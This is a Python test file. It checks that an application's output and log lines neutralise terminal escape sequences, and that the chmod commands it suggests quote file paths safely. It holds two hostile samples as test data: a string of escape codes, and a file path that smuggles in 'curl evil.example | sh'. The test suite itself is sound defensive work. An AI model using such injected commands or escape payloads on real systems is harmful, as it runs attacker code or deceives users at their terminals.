"""Nothing that a cluster or a file sent can steer the terminal of whoever looks at it."""

from __future__ import annotations

import logging
import shlex
from collections.abc import Callable

import pytest

from app.__main__ import main
from app.commands.output import report_line, write_aside, write_output
from app.config.configuration_reasons import ConfigurationCode
from oracle.foundation.reason import ReasonCode
from oracle.foundation.trust_reasons import TrustCode

#: Clears the screen, names the window, turns the line round, and writes over what stands there.
HOSTILE = "shop\x1b[2J\x1b]0;pwned\x07\u202egnp\x9b1m\rsafe"


def assert_harmless(text: str) -> None:
    assert "shop" in text
    assert "safe" in text
    assert all(character.isprintable() for character in text.replace("\n", ""))


@pytest.mark.parametrize("write", [write_output, write_aside, report_line])
def test_no_command_lets_a_name_steer_the_terminal(
    write: Callable[[str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    write(f"context {HOSTILE}")
    said = capsys.readouterr()
    assert_harmless(said.out + said.err)


@pytest.mark.usefixtures("own_places")
def test_nothing_that_is_logged_steers_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    main(["config", "show"])  # any command; it prepares the log
    record = logging.makeLogRecord({"msg": "%s failed", "args": (HOSTILE,), "levelno": logging.WARNING})
    assert logging.lastResort is not None
    assert_harmless(logging.lastResort.format(record))


@pytest.mark.parametrize(
    ("code", "before"),
    [
        (TrustCode.PATH_WRITABLE, "run: chmod go-w "),
        (TrustCode.FILE_EXPOSED, "run: chmod 600 "),
        (ConfigurationCode.SECRET_READABLE, ": chmod o-r "),
    ],
)
def test_a_command_that_is_offered_runs_nothing_that_the_name_of_a_file_says(
    code: ReasonCode, before: str
) -> None:
    """Whoever packs an archive names its folders, and a careless person pastes what the program offers."""
    path = "/tmp/prices; curl evil.example | sh #/kubeconfig"
    _, _, offered = str(code.because(path=path)).partition(before)
    assert shlex.split(offered, comments=True) == [path]
